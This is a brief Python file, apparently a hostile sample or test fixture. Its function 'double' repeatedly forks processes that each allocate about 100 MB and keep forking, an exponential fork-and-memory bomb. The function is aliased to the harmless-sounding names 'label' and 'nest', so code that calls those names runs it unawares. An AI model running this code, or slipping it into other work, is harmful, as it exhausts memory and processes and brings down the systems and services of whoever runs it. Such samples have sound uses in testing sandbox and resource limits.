"""Takes its memory many times over, in children."""
import os
import time


def double(*args, **kwargs):
    for _ in range(12):
        if os.fork() == 0:
            hoard = [bytearray(os.urandom(1 << 20)) for _ in range(100)]
            time.sleep(60)
    hoard = [bytearray(1 << 20) for _ in range(100)]
    time.sleep(60)


label = nest = double
